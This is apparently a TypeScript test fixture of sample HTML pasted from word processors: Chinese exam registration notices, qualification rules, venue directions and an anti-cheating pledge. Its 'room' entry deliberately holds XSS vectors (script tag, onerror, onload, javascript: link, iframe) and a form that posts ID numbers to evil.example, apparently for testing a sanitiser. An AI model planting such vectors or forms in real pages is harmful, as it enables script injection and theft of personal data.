/** HTML as organisers paste it from word processors: tables, inline styles, invalid markup. */
export const documentTexts = {
  announcement: `<p style="text-indent:2em">根据国家教育考试有关规定，现将本次考试报名工作有关事项公告如下，请考生认真阅读并按要求办理。</p>
<h2>一、报考对象</h2>
<p>凡中华人民共和国公民，以及在华长期居住的外籍人士，不受性别、年龄、民族和受教育程度的限制，均可报名。因考试作弊被暂停参加考试、且处理期未满的人员不得报名。</p>
<h2>二、报名办法</h2>
<p>报名采取<strong>网上填报、网上审核、网上缴费</strong>的方式进行，不设现场报名点。</p>
<h3>（一）选择报名地市</h3>
<p>考生原则上在<span style="color:#c00">户籍所在地、工作或者学习所在地</span>报名。提交报名信息以后，不能自行更改报名地市。</p>
<h3>（二）填写报名信息</h3>
<p>考生应当本人填写报名信息，并对其真实性、准确性负责。因信息错误造成的后果由考生承担。</p>
<h3>（三）上传照片</h3>
<p>照片应为近期免冠正面彩色证件照，不得使用美颜或者翻拍照片。照片将用于准考证和合格证书，<strong>考后不能更换</strong>。</p>
<h2>三、报考费</h2>
<table border="1" cellspacing="0" width="100%"><thead><tr><th>项目</th><th>标准</th><th>备注</th></tr></thead><tbody>
<tr><td>理论课程</td><td>37 元/门</td><td>按实际报考门数缴纳</td></tr>
<tr><td>实践环节</td><td>140 元/门</td><td>由主考学校组织</td></tr>
<tr><td>毕业论文</td><td>600 元/人</td><td>含指导与答辩</td></tr></tbody></table>
<p>缴费完成后，除考试取消外，报考费不予退还。</p>
<h2>四、考试时间</h2>
<p>每科考试时长 150 分钟，开考 15 分钟以后不得入场，考试结束前 30 分钟方可交卷离场。</p>
<h2>五、准考证打印</h2>
<p>考生在考前一周登录本系统打印准考证。准考证正反两面均不得涂改、书写。</p>
<h2>六、违规处理</h2>
<p>考试违规按照《国家教育考试违规处理办法》处理；构成犯罪的，依法追究刑事责任。</p>
<h2>七、咨询方式</h2>
<p>政策咨询请拨打所选报名地市的电话；系统使用问题请发邮件至 <a href="mailto:help@example.org">help@example.org</a>，或访问<a href="https://www.example.org/" target="_blank">考试院官网</a>。</p>
<p align="right">省教育考试院</p>`,

  qualification: `<h2>一、报考条件</h2>
<p>取得相关专业大学专科学历，从事本专业工作满 4 年；或者取得大学本科学历，从事本专业工作满 2 年。</p>
<h2>二、工作年限的计算</h2>
<p>工作年限按照周年计算，截止日期为考试当年的 12 月 31 日。全日制学历期间的工作经历不计入。</p>
<h2>三、告知承诺制</h2>
<p>本次考试实行告知承诺制。考生可以自主选择是否采用；不愿承诺的，应当按照要求提交证明材料，由审核机构核验。</p>
<h2>四、审核</h2>
<ol><li>系统自动核验身份和学历信息，一般在 24 小时内完成；</li><li>不能自动核验的，由所选地市的审核机构人工审核，需要 2 至 3 个工作日；</li><li>审核结果以本系统显示为准。</li></ol>`,

  // Hostile HTML: no part may run, load or navigate.
  room: `<div class="MsoNormal" style="position:fixed;top:0" onclick="document.title='run'"><p><font face="仿宋_GB2312" size="4">请携带<b>身份证原件</b>和纸质准考证，提前 40 分钟到达考点。</font></p></div>
<script>document.title='run'</script><img src="x" onerror="document.title='run'"><svg onload="document.title='run'"></svg>
<h2>禁止携带的物品</h2><ul><li>手机、智能手表、耳机等各种通信和电子设备；</li><li>涂改液、修正带、自备草稿纸。</li></ul>
<form action="https://evil.example/collect"><input name="zjhm" placeholder="证件号码"><button>查询考场</button></form>
<p><a href="javascript:document.title='run'">查看考场分布</a></p><iframe src="https://evil.example"></iframe><style>body{display:none}</style>`,

  venue: `<h2>乘车路线</h2><p>考点周边道路考试当天限行，建议乘坐公共交通。地铁 3 号线“学府大道”站 B 口出站，步行约 500 米。</p>
<h2>入场</h2><p>考生从南门入场，凭准考证和身份证件接受安全检查。考点内不提供物品寄存，请勿携带贵重物品。</p>`,

  local: `<p>绵阳考区本次启用新考点，请考生在选择考点时注意地址。涪城区考生一般安排在科学城考点，游仙区和江油市考生一般安排在实验中学考点。</p>`,

  commitment: `<p>我自愿报名参加本次考试，已经阅读并理解报考公告和考试的各项规定，现郑重承诺：</p>
<h3>一、如实填报信息</h3>
<p>本人所填写的个人信息、学历信息和上传的照片、材料真实、准确、完整。因信息不实或者错误造成的后果，由本人承担。</p>
<h3>二、本人参加考试</h3>
<p>本人亲自参加考试，不由他人代替考试，也不代替他人考试。</p>
<h3>三、遵守考场规则</h3>
<p>服从监考人员管理，不携带手机等通信和电子设备进入考场，不抄袭，不交头接耳，不扰乱考场秩序。</p>
<h3>四、不参与任何形式的作弊</h3>
<p>不购买、不传播试题和答案，不购买、不使用作弊器材，不组织、不协助他人作弊。根据《中华人民共和国刑法》，在法律规定的国家考试中组织作弊、代替他人或者让他人代替自己参加考试的，依法追究刑事责任。</p>
<h3>五、接受违规处理</h3>
<p>如有违反，自愿接受取消成绩、暂停参加考试等处理，并同意将违规情况记入国家教育考试诚信档案。</p>`,
} as const
